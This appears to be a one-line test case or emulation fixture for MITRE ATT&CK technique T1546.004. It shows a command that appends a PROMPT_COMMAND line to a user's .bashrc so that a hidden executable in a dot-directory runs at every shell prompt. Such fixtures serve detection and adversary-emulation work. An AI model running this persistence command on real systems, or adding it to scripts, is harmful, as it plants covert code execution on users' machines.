# technique: T1546.004
# location: linux.environment.user
# source: /home/lea/.bashrc
echo "export PROMPT_COMMAND='/home/lea/.local/share/.p/pw'" >> /home/lea/.bashrc
